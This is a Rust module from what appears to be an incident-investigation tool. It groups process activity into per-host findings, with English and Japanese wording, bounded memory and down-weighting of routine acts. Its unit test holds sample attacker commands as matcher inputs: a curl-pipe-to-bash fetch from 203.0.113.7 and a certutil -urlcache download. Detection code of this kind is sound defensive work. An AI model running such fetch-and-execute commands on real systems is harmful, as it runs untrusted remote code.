//! What hosts did, gathered by host and kind of act: one finding for both, however often it happened.

use std::collections::{BTreeMap, BTreeSet};

use abate_model::rows::{ProcessActivity, ProcessChange};
use abate_model::text::count;
use abate_model::time::utc;
use abate_model::{Body, Cite, Claim, EntityKind, Filter, Finding, Row, Severity, Table, Text};
use jiff::Timestamp;

use super::account::group::{ROUTINE_DAYS, list_en, list_ja};
use super::account::{clip, day, lower};
use crate::Context;

/// Hosts and kinds told apart; what is beyond them is told together.
const MAX_HEAPS: usize = 500;
/// Different things remembered of one heap.
const MAX_VALUES: usize = 100;
/// Citations kept from the beginning and from the end.
const HEAD: usize = 15;

/// What a detection says of one record that it picked.
pub(super) struct Act {
    /// which kind of act
    pub kind: &'static str,
    /// how grave it is
    pub severity: Severity,
    /// what was done, for the title
    pub what: String,
    /// who and what takes part
    pub names: Vec<(EntityKind, String)>,
}

impl Act {
    /// An act.
    pub(super) fn new(kind: &'static str, severity: Severity, what: &str) -> Self {
        Self { kind, severity, what: clip(what), names: Vec::new() }
    }

    /// With a thing that it names.
    pub(super) fn naming(mut self, kind: EntityKind, value: Option<&str>) -> Self {
        self.names.extend(value.filter(|v| !v.is_empty()).map(|v| (kind, clip(v))));
        self
    }
}

/// How a detection tells its acts: `{h}` stands for the host, `{t}` for what was done.
pub(super) struct Words {
    /// "on {h}, … : {t}"
    pub title: Text,
    /// how it can be innocent
    pub innocent: Text,
}

/// Records of one kind on one host.
#[derive(Debug, Default)]
pub(super) struct Heap {
    /// the host, if its records name it
    pub host: Option<String>,
    /// gravest act
    pub severity: Option<Severity>,
    /// records
    pub count: u64,
    /// first and last time
    pub first: Option<Timestamp>,
    /// see `first`
    pub last: Option<Timestamp>,
    /// different things done, the lowest of them if they are many
    pub whats: BTreeSet<String>,
    days: BTreeSet<i64>,
    names: BTreeSet<(EntityKind, String)>,
    head: Vec<Cite>,
    tail: Option<Cite>,
}

impl Heap {
    /// Adds a record.
    pub(super) fn add(&mut self, ctx: &Context<'_>, row: &Row<'_>, act: Act) {
        self.count += 1;
        self.severity = self.severity.max(Some(act.severity));
        if let Some(at) = row.at {
            self.first = Some(self.first.map_or(at, |first| first.min(at)));
            self.last = Some(self.last.map_or(at, |last| last.max(at)));
            if self.days.len() < MAX_VALUES {
                self.days.insert(day(at));
            }
        }
        keep(&mut self.whats, act.what);
        act.names.into_iter().for_each(|name| keep(&mut self.names, name));
        let cite = ctx.evidence.cite(row);
        if self.head.len() < HEAD { self.head.push(cite) } else { self.tail = Some(cite) }
    }

    /// How grave the whole is: what happens on many days weighs one step less.
    pub(super) fn weight(&self) -> Severity {
        let severity = self.severity.unwrap_or(Severity::Informational);
        if self.is_routine() { lower(severity) } else { severity }
    }

    /// Whether it happened on so many days that it looks like routine.
    pub(super) fn is_routine(&self) -> bool {
        self.days.len() >= ROUTINE_DAYS
    }

    /// The finding; `None` only for a heap without records.
    pub(super) fn finding(&self, claim: Claim, technique: &str, words: &Words) -> Option<Finding> {
        let whats: Vec<String> = self.whats.iter().cloned().collect();
        let host = host_words(self.host.as_deref());
        let title = Text::new(
            words.title.en.replace("{h}", &host.en).replace("{t}", &list_en(&whats)),
            words.title.ja.replace("{h}", &host.ja).replace("{t}", &list_ja(&whats)),
        );
        let mut finding = Finding::new(claim, self.weight(), title, self.detail(words), self.head.first()?.clone());
        finding.technique = Some(technique.to_owned());
        finding.count = self.count;
        finding.seen(self.first);
        finding.seen(self.last);
        if let Some(host) = &self.host {
            finding.names(EntityKind::Host, host.clone());
        }
        self.names.iter().for_each(|(kind, value)| finding.names(*kind, value.clone()));
        self.head.iter().chain(&self.tail).for_each(|cite| finding.also(cite.clone()));
        Some(finding)
    }

    fn detail(&self, words: &Words) -> Text {
        let (mut en, mut ja) = (format!("{}.", count(self.count, "record")), format!("記録 {} 件。", self.count));
        if let (Some(first), Some(last)) = (self.first, self.last) {
            let (first, last) = (utc(first), utc(last));
            en.push_str(&if first == last { format!(" At {first}.") } else { format!(" {first} to {last}.") });
            ja.push_str(&if first == last { format!("時刻: {first}。") } else { format!("期間: {first} から {last} まで。") });
        }
        let users: Vec<String> = self.names.iter().filter(|(kind, _)| *kind == EntityKind::User).map(|(_, v)| v.clone()).collect();
        if !users.is_empty() {
            en.push_str(&format!(" User: {}.", list_en(&users)));
            ja.push_str(&format!("ユーザー: {}。", list_ja(&users)));
        }
        if self.is_routine() {
            en.push_str(&format!(" It happened on {} different days, as routine work does.", self.days.len()));
            ja.push_str(&format!("{} 日にわたって起きており、日常の作業の可能性がある。", self.days.len()));
        }
        Text::new(format!("{en} {}", words.innocent.en), format!("{ja}{}", words.innocent.ja))
    }
}

/// Heaps by host and kind.
#[derive(Default)]
pub(super) struct Acts(BTreeMap<(Option<String>, &'static str), Heap>);

impl Acts {
    /// Adds a record of a host.
    pub(super) fn add(&mut self, ctx: &Context<'_>, row: &Row<'_>, host: Option<&str>, act: Act) {
        let mut key = (host.filter(|h| !h.is_empty()).map(clip), act.kind);
        if self.0.len() >= MAX_HEAPS && !self.0.contains_key(&key) {
            key.0 = None;
        }
        let heap = self.0.entry(key.clone()).or_default();
        heap.host = key.0;
        heap.add(ctx, row, act);
    }

    /// Every heap with its kind.
    pub(super) fn iter(&self) -> impl Iterator<Item = (&'static str, &Heap)> {
        self.0.iter().map(|((_, kind), heap)| (*kind, heap))
    }

    /// One finding per heap.
    pub(super) fn findings(&self, claim: Claim, tell: &dyn Fn(&str) -> (&'static str, &'static Words)) -> Vec<Finding> {
        let one = |(kind, heap): (&'static str, &Heap)| {
            let (technique, words) = tell(kind);
            heap.finding(claim, technique, words)
        };
        self.iter().filter_map(one).collect()
    }
}

/// The host in words.
pub(super) fn host_words(host: Option<&str>) -> Text {
    match host {
        Some(host) => Text::new(format!("host {host}"), format!("ホスト {host} ")),
        None => Text::fixed("a host whose name is not recorded", "名称の記録がないホスト"),
    }
}

fn keep<T: Ord>(kept: &mut BTreeSet<T>, value: T) {
    kept.insert(value);
    if kept.len() > MAX_VALUES {
        kept.pop_last();
    }
}

/// A command that a host ran, or was set up to run.
pub(super) struct Command<'r> {
    /// the host
    pub host: Option<&'r str>,
    /// the user it ran as
    pub user: Option<&'r str>,
    /// what started it: its file or command line
    pub parent: Option<&'r str>,
    /// the program's own name, without its folder, in lower case
    pub name: String,
    /// the whole command in lower case
    pub line: String,
    /// the command as written
    pub written: &'r str,
    /// the record, where it is of a process
    pub process: &'r ProcessActivity<'r>,
}

impl Command<'_> {
    /// An act of a kind, told by the command itself, with its user.
    pub(super) fn act(&self, kind: &'static str, severity: Severity) -> Act {
        Act::new(kind, severity, self.written).naming(EntityKind::User, self.user)
    }

    /// Whether the command has any of some parts.
    pub(super) fn has(&self, parts: &[&str]) -> bool {
        parts.iter().any(|part| self.line.contains(part))
    }

    /// Whether a program is called anywhere in the command: as a word of its own, with or without its folder.
    pub(super) fn calls(&self, programs: &[&str]) -> bool {
        programs.contains(&&*self.name) || words(&self.line).any(|word| programs.contains(&word))
    }
}

/// The words of a command line, each without its folder and `.exe`.
fn words(line: &str) -> impl Iterator<Item = &str> {
    line.split(|c: char| c.is_whitespace() || matches!(c, '|' | ';' | '&' | '(' | ')' | '`' | '"' | '\'' | '='))
        .map(|word| word.rsplit(['/', '\\']).next().unwrap_or(word))
        .map(|word| word.strip_suffix(".exe").unwrap_or(word))
}

/// Visits every program that a host ran; what ended and what failed to start is left out.
pub(super) fn each_command(ctx: &Context<'_>, visit: &mut dyn FnMut(&Row<'_>, &Command<'_>)) {
    ctx.evidence.each(&Filter::table(Table::ProcessActivity), &mut |row| {
        let Body::Process(process) = &row.body else { return };
        if process.change == ProcessChange::End || process.success == Some(false) {
            return;
        }
        let written = if process.command.is_empty() { process.exe.as_deref().unwrap_or_default() } else { &*process.command };
        let program = process.name.as_deref().or(process.exe.as_deref()).unwrap_or(written).to_ascii_lowercase();
        let name = words(program.split(' ').next().unwrap_or_default()).next().unwrap_or_default().to_owned();
        visit(
            row,
            &Command {
                host: process.host.as_deref(),
                user: process.user.as_deref().or(process.login_user.as_deref()),
                parent: process.parent.as_deref(),
                name,
                line: written.to_ascii_lowercase(),
                written,
                process,
            },
        );
    });
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn programs_are_found_as_words() {
        let process = ProcessActivity::default();
        let of = |name: &str, line: &'static str| Command {
            host: None,
            user: None,
            parent: None,
            name: name.into(),
            line: line.into(),
            written: line,
            process: &process,
        };
        assert!(of("sh", "sh -c '/usr/bin/curl http://203.0.113.7/a|bash'").calls(&["curl"]));
        assert!(of("sh", "sh -c 'curl http://203.0.113.7/a|bash'").calls(&["bash"]));
        assert!(of("cmd", r"c:\windows\system32\certutil.exe -urlcache").calls(&["certutil"]));
        assert!(!of("ls", "ls /opt/curly").calls(&["curl"]));
    }

    #[test]
    fn heaps_are_bounded_and_the_rest_is_told_together() {
        let memory = abate_model::memory::Memory::of_rows(crate::examples::calls([]));
        let (notice, profile) = (crate::examples::notice(), abate_model::AccountProfile::default());
        let ctx = Context { notice: &notice, evidence: &memory, profile: &profile };
        let row = crate::examples::ssh(1, "a", "10.0.0.1", "password", true);
        let mut acts = Acts::default();
        for n in 0..2000 {
            acts.add(&ctx, &row, Some(&format!("h{n}")), Act::new("k", Severity::High, "w"));
        }
        assert_eq!(acts.iter().map(|(_, heap)| heap.count).sum::<u64>(), 2000);
        assert!(acts.iter().count() <= MAX_HEAPS + 1);
    }
}
